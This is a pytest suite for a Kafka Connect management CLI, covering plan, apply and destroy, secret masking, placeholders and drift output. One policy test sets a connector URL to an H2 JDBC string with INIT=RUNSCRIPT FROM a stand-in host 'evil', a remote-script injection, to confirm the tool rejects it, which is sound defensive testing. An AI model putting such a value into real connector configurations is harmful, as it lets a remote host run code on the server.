"""`plan`, `apply -f` and `destroy`: from files to what runs."""

from __future__ import annotations

import json

import pytest

from seamark.errors import ContextNotFoundError, UnreachableError
from tests.unit.cli.test_changes import Desk
from tests.unit.fleet.living import SINK_CONFIG, SOURCE_CONFIG, LivingConnect

PASSWORD = "hunter2-canary"


@pytest.fixture(autouse=True)
def without_waiting(monkeypatch):
    """What runs here runs at once and for good: nobody has to wait for its second look."""
    monkeypatch.setattr("seamark.connectors.run_state._lasts", lambda since, now, seconds: since is not None)


class SpecDesk(Desk):
    """A desk with a folder of spec files."""

    @property
    def config(self):
        return str(self.folder / "config")

    def define(self, name, config=SOURCE_CONFIG, **changes):
        folder = self.folder / "config"
        folder.mkdir(exist_ok=True)
        path = folder / f"{name}.json"
        path.write_text(json.dumps({"name": name, "config": {**config, **changes}}))
        return str(path)

    def plan(self, *argv, **more):
        return self.run("plan", "-f", self.config, *argv, **more)

    def apply(self, *argv, **more):
        return self.run("apply", "-f", self.config, "-y", *argv, **more)


@pytest.fixture
def desk(tmp_path):
    made = SpecDesk(tmp_path)
    made.game = LivingConnect()
    made.define("a")
    return made


def test_plan_shows_and_changes_nothing(desk):
    desk.define("b", SINK_CONFIG)
    desk.game.add("b", SINK_CONFIG | {"tasks.max": "2"})
    ended = desk.plan()
    assert (ended.code, ended.err) == (0, "")
    assert ended.out.splitlines() == [
        'Context dev · Connect "game" 4.3.1, 1 worker · 1 connector read, 0 unchanged',
        "  + connector/game/a   create, RUNNING: starts from the beginning, no offset of this name exists",
        "  ~ connector/game/b   restarts 2 tasks",
        '      tasks.max  "2" → "1"',
        "+ create  ~ change",
        "Plan: 1 to create, 1 to change, 0 to delete. 3 tasks start or restart. No changes were made.",
    ]
    assert desk.game.writes == 0


def test_apply_follows_the_files_and_a_second_one_does_nothing(desk):
    desk.define("b")
    assert desk.apply().code == 0
    assert set(desk.game.configs) == {"a", "b"}
    writes = desk.game.writes
    again = desk.apply()
    assert (again.code, desk.game.writes) == (0, writes)
    assert again.out.splitlines()[-1] == "No changes. Everything is as it should be."
    (desk.folder / "config" / "b.json").unlink()
    assert "- connector/game/b" in desk.plan().out
    assert desk.apply().code == 0
    assert set(desk.game.configs) == {"a"}


def test_apply_asks_first_and_for_a_delete_wants_the_name(desk):
    assert desk.run("apply", "-f", desk.config, typed="no\n").code == 130
    assert desk.game.writes == 0
    assert desk.run("apply", "-f", desk.config, typed="yes\n").code == 0
    (desk.folder / "config" / "a.json").unlink()
    desk.define("b")
    desk.game.add("b", SOURCE_CONFIG)
    assert desk.run("apply", "-f", desk.config, typed="yes\n").code == 130
    ended = desk.run("apply", "-f", desk.config, typed="a\n")
    assert ended.code == 0, ended.err
    assert set(desk.game.configs) == {"b"}


def test_detailed_exitcode_tells_whether_there_is_something_to_do(desk):
    assert desk.plan("--detailed-exitcode").code == 2
    assert desk.plan().code == 0
    desk.apply()
    assert desk.plan("--detailed-exitcode").code == 0


def test_a_plan_is_saved_and_applied_later(desk, monkeypatch):
    monkeypatch.setenv("GAME_PASSWORD", PASSWORD)
    desk.define("a", **{"connection.password": "secret://env/GAME_PASSWORD"})
    file = str(desk.folder / "plan.json")
    ended = desk.plan("--out", file)
    assert ended.code == 0
    assert f"apply it: seamark apply {file}" in ended.err
    assert PASSWORD not in (desk.folder / "plan.json").read_text()
    ended = desk.run("apply", file, "-y")
    assert ended.code == 0, ended.err
    assert desk.game.configs["a"]["connection.password"] == PASSWORD
    assert desk.plan("--detailed-exitcode").code == 0
    # A saved plan of a change has one line, whatever its lane holds.
    desk.define("a", topic="2", **{"connection.password": "secret://env/GAME_PASSWORD"})
    assert desk.plan("--out", file).code == 0
    shown = desk.run("apply", file, "--dry-run").out.splitlines()
    assert shown[1:3] == ["  ~ connector/game/a   restarts 1 task", '      topic  "t" → "2"']
    assert desk.run("apply", file, "-y").code == 0
    assert desk.run("apply", file, "-y").code == 5


def test_names_choose_and_prune_takes_the_rest(desk):
    desk.define("b")
    desk.game.add("stray", SOURCE_CONFIG)
    assert desk.apply("b").code == 0
    assert set(desk.game.configs) == {"b", "stray"}
    assert desk.apply("--prune").code == 0
    assert set(desk.game.configs) == {"a", "b"}
    ended = desk.plan("zzz")
    assert (ended.code, ended.out) == (1, "")
    assert "the spec has no connector zzz" in ended.err


def test_destroy_deletes_what_the_files_name(desk):
    desk.define("b")
    desk.game.add("stray", SOURCE_CONFIG)
    desk.apply()
    assert desk.run("destroy", "-f", desk.config, typed="yes\n").code == 130
    ended = desk.run("destroy", "-f", desk.config, typed="dev\n")
    assert ended.code == 0, ended.err
    assert set(desk.game.configs) == {"stray"}
    assert desk.run("destroy", "-f", desk.config).code == 0


def test_offline_asks_no_server_and_shows_what_is_wanted(desk):
    desk.define("b", **{"connection.password": PASSWORD})
    ended = desk.plan("--offline")
    assert (ended.code, ended.err) == (0, "")
    assert [line.split()[:4] for line in ended.out.splitlines()[1:]] == [
        ["a", "game", "RUNNING", "FileStreamSourceConnector"],
        ["b", "game", "RUNNING", "FileStreamSourceConnector"],
    ]
    assert sum(count for call, count in desk.game.calls.items() if call != "close") == 0
    document = json.loads(desk.plan("--offline", "-o", "json", "b").out)
    assert document["kind"] == "DesiredConnectorList"
    assert document["items"][0]["config"]["connection.password"] == "(sensitive)"


def test_placeholders_have_the_values_of_the_context(desk):
    (desk.folder / "config" / "b.yaml").write_text(
        "connectors: [{name: '${{ context.name }}', config: {connector.class: X}}]"
    )
    desk.changes = {"spec_values": {"name": "b-dev"}}
    assert '"name": "b-dev"' in desk.plan("--offline", "-o", "json").out
    assert "connector b-dev does not exist" in desk.run("connectors", "list", "-f", desk.config).err
    desk.changes = {}
    for ended in (desk.plan("--offline"), desk.plan(), desk.run("connectors", "list", "-f", desk.config)):
        assert ended.code == 64
        assert "b.yaml:1:22: name is not among the values of context dev" in ended.err
        assert "add name: … under contexts.dev.values" in ended.err


def test_offline_without_a_context_names_the_placeholder_that_needs_one(desk, monkeypatch):
    def open_no_fleet(**more):
        raise ContextNotFoundError("there is no context yet", hint="add one")

    monkeypatch.setattr(desk, "fleet", open_no_fleet)
    assert "there is no context yet" in desk.plan("--offline").err
    (desk.folder / "config" / "b.yaml").write_text("connectors: [{name: '${{ context.name }}'}]")
    ended = desk.plan("--offline")
    assert "b.yaml:1:22: context.name has a value only in a context" in ended.err
    assert "choose a context with --context NAME" in ended.err


def test_offline_finds_what_the_policy_does_not_allow(desk):
    desk.define("b", **{"connection.url": "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x'"})
    ended = desk.plan("--offline")
    assert (ended.code, ended.out) == (5, "")
    assert "doesn't allow connector game/b" in ended.err
    assert desk.plan().code == 5
    assert desk.plan("a").code == 0


@pytest.mark.parametrize(
    ("argv", "said"),
    [
        (["apply"], "nothing to apply"),
        (["apply", "a", "b"], "nothing to apply"),
        (["apply", "plan.json", "--prune"], "can't be changed"),
        (["plan"], "Missing option"),
        (["destroy"], "Missing option"),
        (["plan", "-f", "config", "--offline", "--prune"], "makes no plan"),
    ],
)
def test_wrong_usage_says_what_is_missing(desk, argv, said):
    ended = desk.run(*argv)
    assert (ended.code, ended.out) == (64, "")
    assert said in ended.err


def test_json_holds_drift_and_what_was_looked_at(desk):
    desk.apply()
    desk.game.configs["a"]["tasks.max"] = "4"
    document = json.loads(desk.plan("-o", "json").out)
    assert document["kind"] == "Plan"
    assert document["clusters"] == [
        {"name": "game", "version": "4.3.1", "workers": 1, "connectors": 1, "unchanged": 0, "foreign": 0}
    ]
    assert document["drift"][0]["fields"] == [
        {"key": "tasks.max", "applied": "1", "live": "4", "wanted": "1", "sensitive": False}
    ]
    assert document["effects"][0]["action"] == "change"
    assert set(document["spec"]) == {"id"}


def test_a_broken_file_is_named(desk):
    (desk.folder / "config" / "broken.json").write_text("{")
    ended = desk.plan()
    assert (ended.code, ended.out) == (64, "")
    assert "broken.json" in ended.err


def test_a_part_of_a_folder_is_another_spec(desk):
    path = desk.define("a", topic="2")
    assert desk.apply().code == 0
    desk.define("a", topic="3")
    ended = desk.run("plan", "-f", path)
    assert (ended.code, ended.out) == (5, "")
    assert "another spec owns 1 of these connectors" in ended.err
    assert desk.run("plan", "-f", path, "--adopt").code == 0


def test_apply_fails_if_declared_labels_cannot_be_set(desk, monkeypatch):
    (desk.folder / "config" / "b.yaml").write_text(
        f"connectors:\n  - name: b\n    labels: {{team: game}}\n    config: {json.dumps(SOURCE_CONFIG)}\n"
    )
    for name in ("a", "b"):
        desk.game.add(name, SOURCE_CONFIG)

    def fail(reader):
        raise UnreachableError("no broker responds")

    monkeypatch.setattr("seamark.connectors.labels.LabelReader.read", fail)
    note = "! labels were checked, but will not be set: no broker responds"
    assert desk.plan().out.splitlines()[-2:] == [note, "No changes."]
    assert desk.apply("--dry-run").code == 0
    ended = desk.apply()
    assert (ended.code, ended.out.splitlines()[-2:]) == (6, [note, "No changes."])
    assert "no broker responds" in ended.err
    # The question is not asked in vain.
    desk.define("a", topic="other")
    ended = desk.run("apply", "-f", desk.config, typed="yes\n")
    assert (ended.code, desk.game.writes) == (6, 0)
    assert "Type yes" not in ended.err
    assert desk.apply("a").code == 0
